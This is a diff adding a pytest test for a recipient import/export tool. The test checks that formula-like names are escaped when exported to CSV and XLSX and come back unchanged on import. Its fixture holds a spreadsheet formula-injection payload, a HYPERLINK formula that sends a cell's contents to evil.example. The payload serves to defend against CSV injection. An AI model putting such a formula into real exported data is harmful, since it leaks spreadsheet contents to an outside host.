@@ -236,3 +236,36 @@ def test_it_does_not_take_an_opora_id_for_a_person_with_another_snils(tmp_path, 
     with_snils.refresh_from_db()
     assert with_snils.last_name == "Орлова" and with_snils.external_id is None
     assert Recipient.objects.get(external_id=f"opora-{with_snils.pk}").snils == stranger
+
+
+FORMULA_LIKE = {"last_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "first_name": "+Анна",
+                "patronymic": "'=уже с апострофом"}
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_formula_like_text_is_escaped_in_the_export_and_imports_back_unchanged(tmp_path, categories, fmt):  # noqa: F811
+    """A CSV opened in a spreadsheet runs `=…` too: the export writes such text with a leading apostrophe (one
+    more before a text that already has one), the import takes exactly that apostrophe off."""
+    assert run(build(tmp_path / "in"))[0] == 0
+    for external_id, names in (("R1", FORMULA_LIKE), ("R2", {"last_name": "Прокоп'єнко"})):
+        person = Recipient.objects.get(organisation__code="imp", external_id=external_id)
+        for key, value in names.items():
+            setattr(person, key, value)
+        person.save()  # the search name follows
+    Department.objects.filter(organisation__code="imp", code="home").update(name="-Надомное отделение")
+    export(tmp_path / "out", "--organisation", "imp", "--format", fmt)
+    if fmt == "csv":
+        people = (tmp_path / "out" / "recipients.csv").read_text(encoding="utf-8-sig")
+        assert ';"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")";\'+Анна;\'\'=уже с апострофом;' in people
+        assert ";Прокоп'єнко;" in people  # an apostrophe inside a name is not an escape
+        assert "\n=" not in people and ";=" not in people and ';"=' not in people
+        assert ";'-Надомное отделение;" in (tmp_path / "out" / "departments.csv").read_text(encoding="utf-8-sig")
+    status, _out, err = run(tmp_path / "out", "--organisation", "copy")
+    assert status == 0, err
+    copy = Recipient.objects.get(organisation__code="copy", external_id="R1")
+    assert {k: getattr(copy, k) for k in FORMULA_LIKE} == FORMULA_LIKE
+    assert Recipient.objects.get(organisation__code="copy", external_id="R2").last_name == "Прокоп'єнко"
+    assert Department.objects.get(organisation__code="copy", code="home").name == "-Надомное отделение"
+    assert snapshot("copy") == snapshot("imp")
+    status, out2, _err = run(tmp_path / "out")  # and over the original: nothing changes
+    assert status == 0 and "0 created, 0 updated." in out2
